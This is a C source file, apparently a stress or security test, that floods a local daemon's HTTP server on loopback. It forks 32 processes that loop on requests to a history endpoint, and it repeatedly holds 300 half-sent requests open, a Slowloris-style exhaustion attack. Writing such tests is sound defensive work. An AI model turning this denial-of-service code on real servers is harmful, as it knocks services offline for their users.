/* What anybody on the machine can send to the daemon's web server. */
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

static int connection(void)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)http_port)};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int made = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (made >= 0 && connect(made, (struct sockaddr *)&address, sizeof address) != 0) {
        close(made);
        made = -1;
    }
    return made;
}

static void ask_for_history(void)
{
    static const char request[] = "GET /api/v1/history?seconds=3600 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n";
    char answer[65536];
    for (;;) {
        int server = connection();
        if (server < 0) {
            usleep(1000);
            continue;
        }
        if (send(server, request, sizeof request - 1, MSG_NOSIGNAL) > 0)
            while (recv(server, answer, sizeof answer, 0) > 0) {
            }
        close(server);
    }
}

void history_clients(void)
{
    under_way();
    for (int i = 0; i < 32; i++)
        if (fork() == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
            ask_for_history();
        }
    for (;;)
        pause();
}

void half_requests(void)
{
    enum { COUNT = 300 };
    static const char half[] = "GET /api/v1/status HTTP/1.1\r\nHost: local";
    under_way();
    for (;;) {
        int all[COUNT];
        for (int i = 0; i < COUNT; i++) {
            all[i] = connection();
            if (all[i] >= 0)
                send(all[i], half, sizeof half - 1, MSG_NOSIGNAL);
        }
        usleep(500000);
        for (int i = 0; i < COUNT; i++)
            if (all[i] >= 0)
                close(all[i]);
    }
}
